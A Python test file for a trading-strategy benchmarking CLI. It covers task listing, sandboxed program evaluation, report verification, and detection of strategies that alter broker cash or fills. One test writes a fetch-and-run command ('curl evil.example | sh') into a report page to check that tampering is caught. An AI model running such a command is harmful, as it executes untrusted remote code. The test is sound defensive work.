"""``tradeassay code``: tasks, a program of one's own, runs, and what goes wrong."""

import csv
import html
import json
import re
import shlex
import shutil
import xml.etree.ElementTree as ElementTree
from pathlib import Path

import msgspec
import pytest
import scripted_misfits  # noqa: F401  # adds models

from tradeassay.core.errors import MissingExtra
from tradeassay_programs.benchmarks.quantcode.check import read_program
from tradeassay_programs.benchmarks.systrade import examine as systrade_examine
from tradeassay_programs.code.gates import GateConfig
from tradeassay_programs.code.scores import ScoreConfig
from tradeassay_programs.code.validation import Judged, ProgramLine, ValidationReport, error_rates
from tradeassay_programs.sandbox import SandboxRefused, ask_kernel, open_executor, refusal

TASK = "d-sma-cross-long"

needs_walls = pytest.mark.skipif(
    refusal(ask_kernel()) is not None, reason="this machine cannot hold untrusted code"
)


def test_tasks_are_listed_filtered_and_shown(given, told):
    listed = told("code tasks --difficulty hard --timeframe 1m")
    assert listed and {(one["difficulty"], one["timeframe"]) for one in listed} == {("hard", "1m")}
    assert "3 tasks" in given("code tasks --sample 3").err
    shown = given(f"code tasks {TASK}").out
    assert (
        "Two simple averages" in shown
        and "sizing percent 95" in shown
        and "fails at judge" in shown
    )
    assert given(f"code tasks {TASK} --reference --framework frame").out.startswith("import numpy")
    assert told(f"code tasks {TASK}")["id"] == TASK


CODER, BUILDER = (
    "run quantcode-v1 -m scripted/coder-sma",
    "run systrade-v1 -m scripted/builder-gold",
)
REFUSED = {
    "tasks d-sma-cros": "did you mean d-sma-cross-long",
    "tasks --difficulty trivial": "one of easy, medium, hard",
    "tasks --timeframe 1m --family calendar --difficulty hard": "no task matches",
    "tasks --task-file nowhere.json": "there is no task file",
    f"eval nowhere.py --task {TASK}": "cannot be read: No such file",
    f"eval . --task {TASK}": ". is a folder",
    f"eval picture.py --task {TASK}": "not UTF-8 text",
    "eval mine.py --task d-sma": "there is no task 'd-sma'",
    f"eval mine.py --task {TASK} --junit x": "--junit is not valid with a program",
    f"eval mine.py --task {TASK} --symbols A": "--symbols needs a data set",
    f"eval mine.py --task {TASK} --dataset synthetic/us:1": "drawn markets",
    "eval mine.py --years 3": "--years is not valid with a program",
    "eval mine.py --data-seed 2": "--data-seed is not valid with a program",
    "eval mine.py --reward": "--reward is not valid with a program without --task",
    "eval mine": "mine is a folder",
    "eval mine --spec bollinger --task x": "--task and --spec are not valid together",
    "eval mine --spec bollinger --strict": "--strict is not valid with",
    "eval mine --spec bolinger": "did you mean bollinger",
    "eval nowhere --spec bollinger": "has no readable strategy.py",
    "eval mine --spec bollinger --dataset x": "a data set needs symbols",
    "run quantcode-v3 -m scripted/coder-sma": "did you mean quantcode-v1",
    "run quantcode-v1 -m scripted/coder-sm": "did you mean coder-sma",
    f"{CODER} --temperature 9": "temperature must be 0 to 2",
    f"{CODER} --reviewer a/b": "--reviewer is not valid with",
    "run systrade-v1 -m scripted/builder-gol": "did you mean builder-gold",
    f"{BUILDER} --strategy turtel": "did you mean turtle",
    f"{BUILDER} --task x": "--task is not valid with",
    f"{BUILDER} --temperature 9": "temperature must be 0 to 2",
    "validate d-sma-cros": "did you mean d-sma-cross-long",
    "validate --task-file public.json": "nothing to validate",
    "strategies bolinger": "did you mean bollinger",
}


@pytest.mark.parametrize("line", REFUSED)
def test_bad_input_gets_one_line_with_the_mend(line, given, place):
    (place / "mine").mkdir()
    (place / "mine.py").write_text("x = 1\n")
    (place / "picture.py").write_bytes(b"\xff\xfe\x00")
    (place / "public.json").write_text('[{"id": 1, "reformulated_task": "Buy low."}]')
    shown = given(f"code {line}", 2).err
    assert (
        REFUSED[line] in shown and "Traceback" not in shown and len(shown.strip().splitlines()) == 1
    )
    assert not (place / "runs").exists()


@pytest.mark.parametrize(
    ("error", "said"),
    [
        (
            MissingExtra("programs need 'backtrader'", hint="pip install 'tradeassay[code]'"),
            "tradeassay[code]",
        ),
        (
            SandboxRefused("the kernel has no Landlock", hint="use a container or a VM"),
            "no Landlock",
        ),
    ],
)
def test_a_machine_that_cannot_run_programs_says_so(error, said, given, place, monkeypatch):
    def refuse(*args, **kwargs):
        raise error

    monkeypatch.setattr("tradeassay_programs.benchmarks.quantcode.check.open_code_executor", refuse)
    monkeypatch.setattr(
        "tradeassay_programs.benchmarks.quantcode.benchmark.open_code_executor", refuse
    )
    (place / "mine.py").write_text(given(f"code tasks {TASK} --reference").out)
    assert said in given(f"code eval mine.py --task {TASK}", 2).err
    shown = given(f"code {CODER} -t {TASK}", 2).err
    assert said in shown and "Traceback" not in shown


def test_a_run_without_programs_is_reported_verified_and_resumed(given, told, place):
    """The coder that never writes code needs no sandbox."""
    argv = f"code run quantcode-v1 -m scripted/coder-silent -t {TASK} --setting agentic"
    shown = given(f"{argv} --turns 2 --name mute")
    assert "d-sma-cross-long__formal__backtrader__agentic__s0: no code" in shown.err
    assert (
        "no code or a reasoning loop 1" in shown.out and (place / "runs/mute/report.html").is_file()
    )
    for line in ("verify mute", "report mute", "resume mute"):
        given(line)
    assert "quantcode-v1, agentic, formal, backtrader" in given("compare mute mute").out
    said = given(f"{argv} --turns 2 --name other").err
    own = re.search(r"use --secret (\w{32}) in another run", said, re.MULTILINE)
    assert (
        f"run mute again with --secret {own[1]}" in told("compare other mute")["pairs"][0]["reason"]
    )
    given(f"{argv} --turns 2 --secret {own[1]} --seeds 2 --name anew")
    assert told("compare other anew")["pairs"][0]["reason"] is None
    assert told(f"{argv} --turns 2 --name mute")["cells"][0]["ends"] == {"no_code": 1}
    assert (
        "contains a different run: its turns differ"
        in given(f"{argv} --turns 3 --name mute", 2).err
    )


def test_a_page_is_checked_where_it_is_and_by_whoever_wrote_it(given, place):
    given(f"code run quantcode-v1 -m scripted/coder-silent -t {TASK} --name mute")
    (place / "moved, ü").mkdir()
    moved = (place / "runs/mute").rename(place / "moved, ü" / "Anna's run; at $HOME")
    there, elsewhere = shlex.quote(str(moved)), "which is not the run that was checked"
    # Its page names the folder where it was written.
    assert f"runs/mute, {elsewhere}" in " ".join(given(f"verify {there}").err.split())
    given(f"report {there}")
    assert elsewhere not in " ".join(given(f"verify {there}").err.split())
    page = moved / "report.html"
    # Of an absolute path only the end: the page is handed on.
    shown = shlex.quote(str(Path(*moved.parts[-2:])))
    assert (
        f"verify {shown}" in html.unescape(page.read_text()) and str(place) not in page.read_text()
    )
    page = (moved.rename(place / "runs/back")) / "report.html"
    given("verify back")
    written = page.read_text()

    def checked(text, status):
        page.write_text(text)
        return " ".join(given("verify back", status).out.split())

    checked(re.sub("(?<=tradeassay verify )[^<]+", "x; curl evil.example | sh", written), 1)
    worded = written.replace("Skip to the results", "Jump to the results")
    assert worded != written
    checked(worded, 1)  # this version has no such words
    older = re.sub(r'(?<=content="tradeassay )[^"]+', "0.0.1", worded)
    said = checked(older, 3)
    assert "written by tradeassay 0.0.1, with the same numbers in different words" in said
    assert "rewrites it" in said
    checked(
        older.replace("0.0%", "50.0%", 1), 1
    )  # other numbers are contradicted, whoever wrote them
    given("report back")
    given("verify back")


def test_programs_that_cannot_be_examined_need_no_sandbox(given, told, place):
    assert (
        "1 of 1 episodes failed"
        in given(f"code run quantcode-v1 -m scripted/away -t {TASK} --runs elsewhere", 1).err
    )
    assert len(list((place / "elsewhere").glob("quantcode-v1-*/scores.json"))) == 1
    (place / "broken.py").write_text("import backtrader as bt\nclass A(bt.Strategy)\n")
    shown = given(f"code eval broken.py --task {TASK}", 1)
    assert "failed (compile)" in shown.out and "SyntaxError in line 2" in shown.out
    assert "--framework" not in shown.err
    assert told(f"code eval broken.py --task {TASK}", 1)["outcome"] == "compile"
    (place / "frames.py").write_text("def signals(frame):\n    return frame['close'] * 0\n")
    assert "add --framework frame" in given(f"code eval frames.py --task {TASK}", 1).err
    text = "# caf\u00e9\nx = 1\n"
    (place / "mark.py").write_bytes(b"\xef\xbb\xbf" + text.encode())
    (place / "windows.py").write_bytes(text.replace("\n", "\r\n").encode())
    (place / "named.py").write_bytes(b"# coding: latin-1\n" + text.encode("latin-1"))
    assert read_program(Path("mark.py")) == read_program(Path("windows.py")) == text
    assert read_program(Path("named.py")).endswith(text)


@needs_walls
def test_who_needs_a_library_learns_which_there_are(given, place):
    (place / "more.py").write_text(
        "import vectorbt\nimport backtrader as bt\nclass A(bt.Strategy): pass\n"
    )
    shown = given("code eval more.py", 1)
    assert "forbidden import of 'vectorbt' in line 1" in shown.out
    assert (
        "may import numpy, pandas, scipy, talib, matplotlib, backtrader if installed" in shown.err
    )


@pytest.mark.slow
@needs_walls
def test_a_program_of_ones_own(given, told, place):
    """The manual runs the command without a judge."""
    (place / "right.py").write_text(given(f"code tasks {TASK} --reference").out)
    found = told(f"code eval right.py --task {TASK} --judge scripted/code-judge")
    assert (
        found["outcome"] == "solved" and found["evaluation"]["judge_behaviour"]["agreement"] == 1.0
    )
    assert found["evaluation"]["judge_language"]["status"] == "passed"


@pytest.mark.slow
@needs_walls
def test_a_program_without_a_task_is_examined_but_not_scored(given, told, place):
    body = (
        "def signals(frame):\n    return (frame['close'].shift({}) > "
        "frame['close']).astype(float)\n"
    )
    (place / "late.py").write_text(body.format(1))
    (place / "early.py").write_text(body.format(-1))
    assert (
        "late.py without a task (frame): passed, not scored"
        in given("code eval late.py --framework frame").out
    )
    found = told("code eval late.py --framework frame")
    assert (found["verdict"], found["outcome"]) == ("passed, not scored", "not_scored")
    assert told("code eval early.py --framework frame", 1)["outcome"] == "lookahead"


OWN_TERMS = """import backtrader as bt


class Rises(bt.Strategy):
    def __init__(self):
        {inside}

    def next(self):
        rises = self.data.close[0] > self.data.close[-1]
        if rises and not self.position:
            self.buy(size=10)
        elif self.position and not rises:
            self.close()


if __name__ == "__main__":
    cerebro = bt.Cerebro()
    {outside}
"""


@pytest.mark.slow
@needs_walls
def test_a_program_that_changes_the_terms_of_its_account_does_not_pass(given, place):
    not_passed = "not passed: it changes the terms of the account"
    for inside, outside, status, verdict, said in (
        ("pass", "pass", 0, "passed, not scored", ""),
        (
            "self.broker.setcash(1e7)",
            "pass",
            1,
            not_passed,
            "own-terms (a pointer): it sets setcash in line 6",
        ),
        (
            "self.broker.set_coc(True)",
            "pass",
            1,
            not_passed,
            "cheat-fills (a pointer): it sets set_coc in line 6",
        ),
        (
            "getattr(self.broker, 'set' + 'cash')(1e7)",
            "pass",
            1,
            not_passed,
            "account-mismatch (a pointer)",
        ),
        (
            "pass",
            "cerebro.broker.set_coc(True)",
            1,
            not_passed,
            "cheat-fills (a pointer): it sets set_coc",
        ),
        # Cash that is set in code that does not run here changes nothing: it is said, and the program passes.
        (
            "pass",
            "cerebro.broker.setcash(1e6)",
            0,
            "passed, not scored",
            "examined with cash 10,000, commission",
        ),
    ):
        (place / "own.py").write_text(OWN_TERMS.format(inside=inside, outside=outside))
        out = " ".join(given("code eval own.py", status).out.split())
        assert f"own.py without a task (backtrader): {verdict}" in out and said in out


def test_what_validation_shows(given, told, monkeypatch):
    """The validation itself is tested with the judges; the manual runs the command."""
    line = ProgramLine(
        task=TASK,
        program="gold",
        framework="backtrader",
        expected="solved",
        outcome="solved",
        ok=True,
    )
    wrong = {"program": "reversed", "expected": "judge", "ok": False, "kind": "wrong-direction"}
    bad = msgspec.structs.replace(line, **wrong, behaviour="passed", language="failed")
    judged = [
        Judged(program=name, right=right, verdict="passed")
        for name, right in (("gold", True), ("r", False))
    ]
    done = ValidationReport(tasks=1, lines=(line, bad), judges=(error_rates("behaviour", judged),))

    def validated(tasks, *, tell, **rest):
        tell(bad)
        return done

    monkeypatch.setattr("tradeassay_programs.benchmarks.quantcode.check.validate_tasks", validated)
    shown = given(f"code validate {TASK}", 1)
    assert (
        "decoy for judge" in shown.out
        and f"{TASK}/reversed: expected judge, got solved" in shown.err
    )
    assert (
        "false rejects 0.0% of 1, false accepts 100.0% of 1" in shown.err
        and "judges disagree" in shown.err
    )
    assert told(f"code validate {TASK}", 1)["tasks"] == 1


def test_strategies_are_listed_shown_and_written(given, told, place):
    listed = told("code strategies")
    assert len(listed) == 24 and listed[0]["id"] == "bollinger" and len(listed[0]["sha256"]) == 64
    assert "Turtle breakout" in given("code strategies").out
    assert given("code strategies turtle").out.startswith("#")
    assert json.loads(given("code strategies turtle --semantics").out)["id"] == "turtle"
    assert told("code strategies turtle --reference mine") == {
        "folder": "mine",
        "strategy": "turtle",
    }
    assert (place / "mine/strategy.py").is_file() and (place / "mine/strategy_card.json").is_file()
    assert "already exists" in given("code strategies turtle --reference mine", 2).err
    for what in ("card", "semantics"):
        assert "$defs" in json.loads(given(f"code strategies --schema {what}").out)


def test_a_run_without_submissions_is_reported_verified_and_resumed(given, told, place):
    """The builder forgets its program at first, so one iteration needs no sandbox."""
    argv = (
        "code run systrade-v1 -m scripted/builder-mends --strategy bollinger --name forgot "
        "--iterations"
    )
    shown = given(f"{argv} 1")
    assert "bollinger__s0: nothing handed in" in shown.err
    assert "scripted/builder-mends" in shown.out and (place / "runs/forgot/report.html").is_file()
    for line in ("verify forgot", "report forgot", "resume forgot"):
        given(line)
    assert told(f"{argv} 1")["models"][0]["valid"]["value"] == 0.0
    assert "contains a different run: its iterations differ" in given(f"{argv} 2", 2).err


@pytest.mark.slow
@needs_walls
def test_a_folder_of_ones_own_passes(given, told, place, monkeypatch):
    quick = ScoreConfig(gates=GateConfig(seeds=(42, 123)), stresses=())
    monkeypatch.setattr(systrade_examine, "ScoreConfig", lambda: quick)
    monkeypatch.setattr(
        systrade_examine,
        "open_executor",
        lambda kind, *, config, workers: open_executor(kind, config=config),
    )
    given("code strategies double-ma --reference mine")
    argv = "code eval mine --spec double-ma"
    found = told(f"{argv} --out out/card.html --bar-log out/bars.csv --years 3")
    over, alone = found["years"], found["scorecard"]["corrected"]["D4"]["value"]
    assert (
        over["n"] == 3 and over["low"] <= over["value"] <= over["high"] and over["value"] != alone
    )
    assert found["passed"] and found["scorecard"]["corrected"]["D1"]["value"] == 10.0
    page = (place / "out/card.html").read_text()
    assert "All 8 gates passed." in page and "D4 over years" in page and 'id="drift"' not in page
    bars = list(csv.DictReader((place / "out/bars.csv").read_text().splitlines()))
    assert {bar["position_state"] for bar in bars} == {"FLAT", "LONG", "SHORT"}
    assert bars[0]["constraint_check"] == "pass"
    assert all(float(bar["equity"]) > 0 for bar in bars)
    years = []  # no year is public: each examination is scored on its own, which its secret repeats
    for secret in (found["secret"], "f" * 64):
        given(f"{argv} --secret {secret} --bar-log out/again.csv --json")
        years.append((place / "out/again.csv").read_bytes())
    assert years[0] == (place / "out/bars.csv").read_bytes() != years[1]
    shutil.copytree(place / "mine", place / "patched")
    source = (place / "patched/strategy.py").read_text()
    (place / "patched/strategy.py").write_text(source.replace("FAST = 20", "FAST = 30"))
    for since, kind in (("mine", "drift"), ("patched", "unchanged")):
        found = told(f"code eval patched --spec double-ma --out out/since.html --since {since}", 1)
        assert found["drift"]["kind"] == kind
        page = (place / "out/since.html").read_text()
        assert "since the earlier submission" in page and f">{kind}</span>" in page


def test_a_failed_gate_is_an_exit_status_and_a_report_for_the_build(given, place):
    """A program that cannot be parsed is never run, so no sandbox is opened."""
    given("code strategies double-ma --reference mine")
    argv = "code eval mine --spec double-ma"
    card = place / "mine/strategy_card.json"
    card.write_text(card.read_text().replace('"double-ma"', '"turtle"'))
    (place / "mine/strategy.py").write_text("class TradingStrategy\n")
    shown = given(f"{argv} --junit out/gates.xml --sarif out/gates.sarif", 1)
    assert "not all gates passed" in shown.out and "written: out/gates.sarif" in shown.err
    suite = ElementTree.parse(place / "out/gates.xml").getroot()[0]
    assert int(suite.attrib["failures"]) >= 1 and int(suite.attrib["tests"]) == 7
    sarif = json.loads((place / "out/gates.sarif").read_text())
    assert sarif["version"] == "2.1.0" and {
        one["level"] for one in sarif["runs"][0]["results"]
    } >= {"error"}
    assert "cannot be written" in given(f"{argv} --junit mine/strategy.py/x.xml", 2).err


@needs_walls
@pytest.mark.parametrize("path", ["//data/x.csv", "//", "///../data/x.csv"])
def test_a_program_that_opens_a_path_with_slashes_at_its_start_is_judged(
    given, told, tmp_path, monkeypatch, path
):
    monkeypatch.chdir(tmp_path)
    Path("slashes.py").write_text(
        "import backtrader as bt\n\n\nclass S(bt.Strategy):\n    def next(self):\n        "
        f"open({path!r})\n"
    )
    found = told("code eval slashes.py", 1)
    assert found["outcome"] == "backtest" and "refused file: openat(read /" in json.dumps(found)
